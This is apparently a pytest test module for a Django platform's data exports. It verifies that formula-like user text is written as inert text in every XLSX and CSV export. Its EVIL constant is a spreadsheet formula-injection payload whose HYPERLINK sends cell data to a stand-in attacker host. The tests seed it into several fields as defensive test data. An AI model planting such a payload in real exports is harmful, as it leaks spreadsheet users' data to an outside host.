"""Formula injection: text a user typed that starts like a formula (``=HYPERLINK(...)``) never
becomes a live formula in any export of the product, XLSX or CSV.

Every export is listed here by URL; a new export belongs in ``EXPORTS`` (and goes through
``platform.exports``, the one guard)."""

import csv
import io

import pytest
from django.db import connection
from openpyxl import load_workbook

from platform import exports
from tenants.access import SYSTEM
from tenants.models import Region
from tests.assessments.conftest import actor

P = "kota-probolinggo.sc100.test"
APEX = "sc100.test"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(world, client_for):
    """One row of hostile text in every place an export reads: a program, an OPD, a cycle's
    evidence, a region's name (national pages) and a facilitator's name."""
    from assessments import services as cycle_services
    from assessments.framework.services import import_published_results, seed_standard_versions
    from tests.programs import factories as programs
    from tests.scheduling import factories as scheduling

    versions = seed_standard_versions()
    Region.objects.filter(code="35.74").update(name=EVIL)
    import_published_results(
        actor=SYSTEM,
        filename="x.csv",
        content=b"region_code,year,stage,overall,rank\n35.74,2021,2,3.17,12\n35.75,2021,2,2.95,20\n",
    )
    scheduling.facilitator("jahat@example.id", full_name=EVIL)
    connection.set_tenant(world.probolinggo)
    programs.program(world, programs.opd("@SUM(1+1)"), goals=EVIL, description="+62 812 dan -lain")
    cycle = cycle_services.start_cycle(
        actor=actor(world, "admin_probolinggo"), framework_version=versions[1], year=2024, stage=1
    )
    response = cycle.responses.order_by("pk").first()
    cycle_services.save_self_assessment(response=response, score=3, evidence_text=EVIL, evidence_links="", actor=SYSTEM)
    connection.set_schema_to_public()
    return cycle


def _exports(cycle):
    """(who, host, URL, the hostile text it must carry) of every export of the product."""
    return [
        ("viewer_probolinggo", P, "/program/excel/ekspor/", EVIL),
        ("viewer_probolinggo", P, "/program/excel/templat/", "@SUM(1+1)"),
        ("admin_probolinggo", P, f"/assessments/{cycle.pk}/?format=xlsx", EVIL),
        ("admin_probolinggo", P, f"/assessments/{cycle.pk}/?format=csv", EVIL),
        ("ministry_analyst", APEX, "/assessments/ranking/?period=2021-2&format=xlsx", EVIL),
        ("ministry_analyst", APEX, "/assessments/ranking/?period=2021-2&format=csv", EVIL),
        ("ministry_analyst", APEX, "/assessments/compare/?region=35.74&region=35.75&format=xlsx", EVIL),
        ("ministry_analyst", APEX, "/assessments/compare/?region=35.74&region=35.75&format=csv", EVIL),
        ("ministry_analyst", APEX, "/masterplans/?format=xlsx", EVIL),
        ("ministry_analyst", APEX, "/masterplans/?format=csv", EVIL),
        ("ministry_admin", APEX, "/fasilitator/?format=xlsx", EVIL),
        ("ministry_admin", APEX, "/fasilitator/?format=csv", EVIL),
        ("ministry_admin", APEX, "/fasilitator/impor/templat/?format=xlsx", None),  # fixed text only
        ("ministry_admin", APEX, "/fasilitator/impor/templat/?format=csv", None),
    ]


def _text_cells(response) -> list[tuple[str, object]]:
    """(text, cell or None) of every text cell of an XLSX or CSV answer."""
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        return [(value, None) for row in rows for value in row]
    book = load_workbook(io.BytesIO(response.content))
    return [
        (cell.value, cell)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def test_every_export_writes_formula_like_text_as_text(world, client_for, hostile):
    for who, host, url, carried in _exports(hostile):
        response = client_for(world.users[who]).get(url, HTTP_HOST=host)
        assert response.status_code == 200, url
        cells = _text_cells(response)
        assert cells, url
        for value, cell in cells:
            if cell is None:  # CSV: a spreadsheet program would run it, so it is quoted
                assert not value.startswith(TRIGGERS), (url, value)
            else:  # XLSX: never a formula; formula-like text is a text cell marked as text
                assert cell.data_type != "f", (url, value)
                if value.startswith(TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, (url, value)
        if carried:
            assert any(carried in value for value, _cell in cells), url


def test_the_program_export_still_imports_formula_like_text_unchanged(world, client_for, hostile):
    from programs import excel

    content = client_for(world.users["viewer_probolinggo"]).get("/program/excel/ekspor/", HTTP_HOST=P).content
    connection.set_tenant(world.probolinggo)
    preview = excel.validate_workbook(actor=actor(world, "admin_probolinggo"), content=content)
    [parsed] = preview.programs
    assert parsed.data["goals"] == EVIL and parsed.data["lead_opd"].acronym == "@SUM(1+1)"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+62 812", "'+62 812"),
        ("-lain", "'-lain"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-0.440", "-0.440"),  # a plain number calls nothing
        ("+3", "+3"),
        ("-1+2", "'-1+2"),
        ("Kota = kota", "Kota = kota"),
        ("", ""),
    ],
)
def test_the_csv_guard_quotes_what_a_spreadsheet_would_run(value, written):
    assert exports.csv_value(value) == written


def test_the_table_response_guards_numbers_and_text_in_both_formats():
    from decimal import Decimal

    rows = [[EVIL, Decimal("-0.440"), -3, None, "biasa"]]
    csv_text = exports.table_response(filename="x", header=["a", "b", "c", "d", "e"], rows=rows, fmt="csv")
    assert list(csv.reader(io.StringIO(csv_text.content.decode("utf-8-sig"))))[1] == [
        "'" + EVIL,
        "-0.440",
        "-3",
        "",
        "biasa",
    ]
    xlsx = exports.table_response(filename="x", header=["a", "b", "c", "d", "e"], rows=rows, fmt="xlsx")
    cells = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(min_row=2))[0]
    assert (cells[0].value, cells[0].data_type, cells[0].quotePrefix) == (EVIL, "s", True)
    assert (cells[1].value, cells[2].value, cells[3].value, cells[4].quotePrefix) == (-0.44, -3, None, False)
